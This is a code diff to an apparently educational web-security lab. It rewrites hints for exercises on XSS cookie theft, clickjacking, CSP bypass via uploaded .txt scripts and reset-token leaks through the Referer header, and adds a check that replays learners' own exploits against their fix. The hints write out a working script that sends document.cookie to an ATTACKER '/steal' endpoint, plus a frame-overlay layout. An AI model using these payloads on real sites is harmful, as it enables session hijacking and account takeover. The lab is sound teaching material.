@@ -603,10 +603,13 @@ def _answer_url(ctx: CheckContext) -> str | Verdict:
     kind="attack",
     hints=(
         "The search page prints q twice without encoding. Try lab.client.get('/', "
-        "params={'q': '<b>hi</b>'}).text.",
-        "xss.cookie_stealer(lab.urls['attacker']) is a <script> that sends document.cookie "
-        "to the attacker's /steal.",
-        "Hand in xss.search_url(lab.url, payload): the victim, logged in, opens it.",
+        "params={'q': '<b>hi</b>'}).text: any markup you type becomes the page's markup. "
+        "Hand in a search link on the shop: the victim, logged in, opens it.",
+        'payload = "<script>location = \'" + ATTACKER + "/steal?c=\' + '
+        "encodeURIComponent(document.cookie)</script>\"; url = SHOP + '/?q=' + "
+        "urllib.parse.quote(payload, safe='')",
+        "The ready-made pieces: from labkit.attacks import xss; "
+        "xss.search_url(SHOP, xss.cookie_stealer(ATTACKER))",
     ),
     answer_help="a URL on the lab app that the victim opens",
 )
@@ -643,10 +646,14 @@ def steal_cookie(ctx: CheckContext) -> Verdict:
     title="Make the victim click the profile's hidden button through a frame",
     kind="attack",
     hints=(
-        "lab.client.get('/static/site.css').text says where #share sits on /profile.",
-        "xss.clickjack_page(lab.url + '/profile', top=..., left=...) frames it over a decoy.",
-        "Hand in the page's HTML; the check hosts it on the attacker's site and the victim "
-        "clicks #prize.",
+        "lab.client.get('/static/site.css').text says where #share sits on /profile. Hand in "
+        "the page's HTML; the check hosts it on the attacker's site and the victim clicks "
+        "#prize.",
+        "An <iframe src=target> with position:absolute; top:0; left:0; opacity:0.05; "
+        "z-index:2 over a <button id='prize'> with position:absolute at #share's top/left "
+        "and z-index:1: the click lands on the frame.",
+        "The ready-made page: from labkit.attacks import xss; "
+        "xss.clickjack_page(SHOP + '/profile', top=..., left=...)",
     ),
     answer_help="the HTML of your attacker page (with a #prize element to click)",
 )
@@ -681,10 +688,13 @@ def clickjack(ctx: CheckContext) -> Verdict:
     title="Run an uploaded text file as a script, past script-src 'self'",
     kind="attack",
     hints=(
-        "Upload JavaScript as a .txt file: POST /api/uploads {filename, content} (log in "
-        "first); the app serves it as text/plain.",
-        "Inject xss.script_include(upload_url) through the search page: no inline code.",
-        "The check adds script-src 'self' to the app's pages: only same-origin files run.",
+        "The check adds script-src 'self' to the app's pages: only same-origin files run, "
+        "and uploads are same-origin. Upload JavaScript as a .txt file: POST /api/uploads "
+        "{filename, content} (log in first); the app serves it as text/plain.",
+        'Put <script src="/uploads/..."></script> into the search box: no inline code. '
+        "Hand in that search link.",
+        "The ready-made pieces: from labkit.attacks import xss; xss.stealer_code(ATTACKER) "
+        "is the file's content, xss.search_url(SHOP, xss.script_include(upload_url)) the link.",
     ),
     answer_help="a URL on the lab app whose page includes your upload with <script src>",
 )
@@ -738,10 +748,12 @@ def _script_sources(html: str) -> list[str]:
     title="Read the victim's password-reset token from a Referer",
     kind="attack",
     hints=(
-        "xss.referer_leak(lab.url, lab.urls['attacker']) plays the victim: she opens her "
-        "reset link and clicks 'help centre'.",
-        "xss.loot(lab.urls['attacker'], 'referer') is the help centre's log.",
-        "The token is the ?token= of the Referer URL: urllib.parse helps.",
+        "With no-referrer-when-downgrade the browser tells the help centre the full URL alice "
+        "came from: her reset link, token included. Hand in that token.",
+        "The token is the ?token= of the Referer URL: "
+        "parse_qs(urlsplit(referer).query)['token'][0].",
+        "The help centre's log: from labkit.attacks import xss; "
+        "xss.loot(ATTACKER, 'referer')[-1]['value'] is the last Referer it received.",
     ),
     answer_help="the reset token (a string)",
 )
@@ -948,6 +960,38 @@ def encoding(ctx: CheckContext) -> Verdict:
     )
 
 
+def _own_exploits(ctx: CheckContext, patched: Target, findings: Findings) -> dict[str, str]:
+    """The learner's payload and framing page (plain data), aimed at the patched shop: the
+    vulnerable shop's and attacker's addresses in them become the patched run's. Returns a
+    search URL (``payload``) and the URL of the hosted page (``page``), those given."""
+    answer = ctx.answer
+    if answer is None:
+        return {}
+    if not isinstance(answer, Mapping) or not all(
+        isinstance(answer.get(k) or "", str) for k in ("payload", "page")
+    ):
+        findings.fail("expected {'payload': str, 'page': str} as your own exploits (or nothing)")
+        return {}
+    shop, attacker = ctx.target.url, _attacker(ctx.target)
+
+    def aimed(text: str) -> str:
+        if attacker:
+            text = text.replace(attacker, _attacker(patched))
+        return text.replace(shop, patched.url)
+
+    own: dict[str, str] = {}
+    if answer.get("payload"):
+        own["payload"] = xss.search_url(patched.url, aimed(answer["payload"]))
+    if answer.get("page"):
+        with httpx.Client(base_url=_attacker(patched), trust_env=False, timeout=30) as client:
+            hosted = client.post("/api/_lab/pages", json={"html": aimed(answer["page"])})
+        if hosted.status_code == 200:
+            own["page"] = _attacker(patched) + hosted.json()["url"]
+        else:
+            findings.fail(f"the attacker's site refused your page: {hosted.text[:120]}")
+    return own
+
+
 @LAB.check(
     "verify",
     title="Replay every attack against your full fix",
@@ -955,10 +999,13 @@ def encoding(ctx: CheckContext) -> Verdict:
     fixes=("security_headers", "session_cookie", "escape"),
     hints=("Run the three fix checks above first: this one replays all of them together.",),
     rules=merge_rules(HEADER_RULES, COOKIE_RULES, ENCODING_RULES),
+    answer_help="optional: {'payload': your search-box payload, 'page': your framing page's "
+    "HTML}, replayed against your fix too",
 )
 def verify(ctx: CheckContext) -> Verdict:
     patched = ctx.require_patched()
     findings = Findings()
+    own = _own_exploits(ctx, patched, findings)
     _header_battery(patched, findings, ctx.rng)
     _nonce_battery(patched, findings)
     _encoding_battery(patched, findings, ctx.rng)
@@ -982,7 +1029,12 @@ def verify(ctx: CheckContext) -> Verdict:
     steal = xss.search_url(victim, xss.cookie_stealer(attacker))
     login_flow = _login_flow_probe(patched)
 
+    own_steal, own_page = own.get("payload"), own.get("page")
+
     def work(b: Browser) -> list[Probe]:
+        mine = [xss.steal_cookie(victim, attacker, own_steal, browser=b)] if own_steal else []
+        if own_page:
+            mine.append(xss.clickjack(victim, attacker, own_page, browser=b))
         return [
             xss.steal_cookie(victim, attacker, steal, browser=b),
             xss.clickjack(victim, attacker, browser=b),
@@ -990,9 +1042,13 @@ def verify(ctx: CheckContext) -> Verdict:
             xss.referer_leak(victim, attacker, browser=b),
             login_flow(b),
             xss.reflected_xss(victim, browser=b),
+            *mine,
         ]
 
     def simulate() -> list[Probe]:
+        mine = [xss.simulate_steal_cookie(victim, own_steal)] if own_steal else []
+        if own_page:
+            mine.append(xss.simulate_clickjack(victim, own_page))
         return [
             xss.simulate_steal_cookie(victim, steal),
             xss.simulate_clickjack(victim, attacker + "/"),
@@ -1000,10 +1056,18 @@ def verify(ctx: CheckContext) -> Verdict:
             xss.simulate_referer_leak(victim),
             _login_flow_simulated(patched),
             xss.simulate_reflected_xss(victim),
+            *mine,
         ]
 
     probes = _probes(work, simulate, findings)
-    _expect_blocked(findings, [p for p in probes if p.attack != "reflected XSS"], PROBE_RULES)
+    battery, mine = probes[:6], probes[6:]
+    for probe in mine:
+        findings.expect(
+            not probe.succeeded,
+            f"your own exploit still works against your fix: {probe!r}",
+            f"your own exploit is now refused: {probe!r}",
+        )
+    _expect_blocked(findings, [p for p in battery if p.attack != "reflected XSS"], PROBE_RULES)
     for probe in probes:
         if probe.attack == "reflected XSS":
             _expect_encoded(findings, probe)
